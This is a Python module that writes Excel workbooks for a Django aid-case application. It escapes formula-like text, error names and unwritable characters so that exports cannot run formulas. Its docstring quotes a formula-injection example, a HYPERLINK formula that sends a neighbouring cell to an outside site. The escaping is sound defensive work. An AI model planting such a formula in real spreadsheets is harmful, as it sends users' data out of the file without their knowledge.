"""The one writer of every workbook AidCase writes: import templates and exports, one-time
password sheets, the ledgers and the assessment summary.

DESIGN: text is stored as text. openpyxl infers a cell's type from its value and stores text
that begins with "=" as a formula, which Excel would run when the office opens the file (a
note `=HYPERLINK("http://…?x="&A1, "点击")` sends a neighbouring cell to another site); it stores
"#N/A" and the other error names as error cells. Here every str is a string cell, and text
that a spreadsheet program would take for a formula when the cell is edited (=, +, -, @)
also carries Excel's quote prefix, which keeps it text without changing its value: the
import reads back exactly what was written. Characters an .xlsx cannot hold (control
characters pasted into a record, which make openpyxl raise) are dropped, and text is cut at
Excel's 32,767 characters a cell. Numbers, dates and booleans keep their types.

Workbooks are write-only: rows stream into the file, so an export of a whole county's roster
does not hold every cell in memory.
"""

import datetime as dt
import io
import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from decimal import Decimal
from typing import Any

import openpyxl
from django.utils import timezone
from django.utils.functional import Promise
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ERROR_CODES
from openpyxl.styles import Alignment, Font
from openpyxl.utils import get_column_letter
from openpyxl.workbook.workbook import Workbook
from openpyxl.worksheet._write_only import WriteOnlyWorksheet

# The content type of an .xlsx file, for every download of one.
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
# Excel keeps at most this many characters in a cell.
MAX_CELL_CHARACTERS = 32_767
# XML 1.0, the .xlsx format's, has no place for the C0 controls other than tab, line feed and
# carriage return, for lone surrogates or for U+FFFE and U+FFFF.
UNWRITABLE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
FORMULA_STARTS = ("=", "+", "-", "@")
SHEET_TITLE_LENGTH = 31
# Values openpyxl stores as they are (an aware datetime is not one: Excel has no time zones).
PLAIN_TYPES = frozenset({int, float, Decimal, bool, dt.date, type(None)})
BOLD = Font(bold=True)
TITLE = Font(size=14, bold=True)


def cell_text(value: str) -> str:
    """Text as a cell can hold it: unwritable characters dropped, cut at Excel's limit."""
    return UNWRITABLE.sub("", value)[:MAX_CELL_CHARACTERS]


def workbook_new() -> Workbook:
    return openpyxl.Workbook(write_only=True)


def sheet_add(
    workbook: Workbook, *, title: Any, widths: Sequence[int] = (), freeze: str = ""
) -> WriteOnlyWorksheet:
    """A new sheet. A write-only sheet takes its column widths and frozen panes before its
    first row, so they are given here."""
    sheet = workbook.create_sheet(title=cell_text(str(title))[:SHEET_TITLE_LENGTH])
    for index, width in enumerate(widths, start=1):
        sheet.column_dimensions[get_column_letter(index)].width = width
    if freeze:
        sheet.freeze_panes = freeze
    return sheet


def row_append(
    sheet: WriteOnlyWorksheet,
    values: Iterable[Any],
    *,
    font: Font | None = None,
    alignment: Alignment | None = None,
    number_formats: Sequence[str] = (),
) -> None:
    """Appends one row; `number_formats` gives each column's Excel format ("" keeps the
    default)."""
    if font is None and alignment is None and not number_formats:
        # The rows of a large export: values openpyxl stores right pass as they are.
        sheet.append([v if _plain(v) else _cell(sheet, v, None, None, "") for v in values])
        return
    row = []
    for index, value in enumerate(values):
        number_format = number_formats[index] if index < len(number_formats) else ""
        row.append(_cell(sheet, value, font, alignment, number_format))
    sheet.append(row)


def _plain(value: Any) -> bool:
    kind = value.__class__
    if kind is str:
        return not (
            value.startswith(FORMULA_STARTS)
            or value in ERROR_CODES
            or len(value) > MAX_CELL_CHARACTERS
            or UNWRITABLE.search(value)
        )
    return kind in PLAIN_TYPES


def workbook_save(workbook: Workbook, *, creator: str = "") -> bytes:
    """The workbook as the bytes of an .xlsx file, naming who made it."""
    if creator:
        workbook.properties.creator = cell_text(creator)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _cell(
    sheet: WriteOnlyWorksheet,
    value: Any,
    font: Font | None,
    alignment: Alignment | None,
    number_format: str,
) -> Any:
    """The value itself when openpyxl's own inference is right and nothing is styled,
    otherwise a cell with its type and style set."""
    as_text = False
    if isinstance(value, Promise):
        value = str(value)
    if isinstance(value, str):
        value = cell_text(value)
        as_text = value.startswith(FORMULA_STARTS) or value in ERROR_CODES
    elif isinstance(value, dt.datetime) and timezone.is_aware(value):
        value = timezone.make_naive(value)  # Excel has no time zones: the local time
    styled = font is not None or alignment is not None or (number_format and value is not None)
    if not (as_text or styled):
        return value
    cell = WriteOnlyCell(sheet, value=value)
    if as_text:
        cell.data_type = "s"
        cell.quotePrefix = True
    if number_format and value is not None:
        cell.number_format = number_format
    if font is not None:
        cell.font = font
    if alignment is not None:
        cell.alignment = alignment
    return cell


# Reports: title rows, a table and a totals row


@dataclass(frozen=True)
class ReportColumn:
    """A column of an exported table: its header, its width in characters, and the Excel
    number format of its values ("" keeps the default)."""

    header: str
    width: int = 12
    number_format: str = ""


def report_sheet(
    workbook: Workbook,
    *,
    name: str,
    title: str,
    lines: Sequence[str],
    columns: Sequence[ReportColumn],
    rows: Iterable[Sequence[Any]],
    totals: Sequence[Any] | None = None,
) -> None:
    """Adds a sheet: the title in large bold type, one row per line about the export
    (period, exporter, time…), a blank row, the bold header row frozen in place, the rows,
    and a bold totals row when given."""
    header_row = len(lines) + 3
    sheet = sheet_add(
        workbook, title=name, widths=[c.width for c in columns], freeze=f"A{header_row + 1}"
    )
    row_append(sheet, [title], font=TITLE)
    for line in lines:
        row_append(sheet, [line])
    sheet.append([])
    row_append(sheet, [c.header for c in columns], font=BOLD)
    formats = [c.number_format for c in columns]
    for row in rows:
        row_append(sheet, row, number_formats=formats)
    if totals is not None:
        row_append(sheet, totals, font=BOLD, number_formats=formats)
